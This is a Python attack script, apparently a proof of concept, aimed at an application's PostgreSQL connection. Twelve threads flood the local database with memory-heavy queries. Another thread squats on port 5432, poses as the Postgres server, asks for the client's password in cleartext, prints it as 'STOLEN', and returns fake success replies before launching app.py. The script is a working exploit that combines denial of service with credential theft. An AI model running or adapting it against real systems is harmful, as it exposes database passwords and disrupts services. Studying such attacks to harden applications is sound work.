import runpy
import socket
import struct
import threading
import time

import db


def glut(number):
    end = time.monotonic() + 8
    while time.monotonic() < end:
        try:
            connection = db.Connection()
            connection.query("set work_mem = '500MB'")
            connection.query("set maintenance_work_mem = '500MB'")
            if number % 2:
                connection.query(f"create table if not exists big{number} (t text)")
                connection.query(f"insert into big{number} select repeat(md5(i::text), 50) from generate_series(1, 400000) i")
            else:
                connection.query("select array_agg(repeat(md5(i::text), 100)) from generate_series(1, 150000) i")
        except (db.DatabaseError, OSError, MemoryError):
            time.sleep(0.02)


def serve(connection):
    length = struct.unpack("!I", connection.recv(4))[0]
    connection.recv(length)
    connection.sendall(b"R" + struct.pack("!II", 8, 3))
    print("STOLEN", connection.recv(200), flush=True)
    connection.sendall(b"R" + struct.pack("!II", 8, 0) + b"Z" + struct.pack("!I", 5) + b"I")
    while connection.recv(65536):
        connection.sendall(b"C" + struct.pack("!I", 13) + b"SELECT 1\0" + b"Z" + struct.pack("!I", 5) + b"I")


def squat():
    while True:
        listener = socket.socket()
        listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        try:
            listener.bind(("127.0.0.1", 5432))
        except OSError:
            time.sleep(0.01)
            continue
        listener.listen()
        print("SQUATTED", flush=True)
        while True:
            threading.Thread(target=serve, args=(listener.accept()[0],), daemon=True).start()


threading.Thread(target=squat, daemon=True).start()
threads = [threading.Thread(target=glut, args=(number,), daemon=True) for number in range(12)]
for thread in threads:
    thread.start()
time.sleep(1.5)
runpy.run_path("app.py", run_name="__main__")
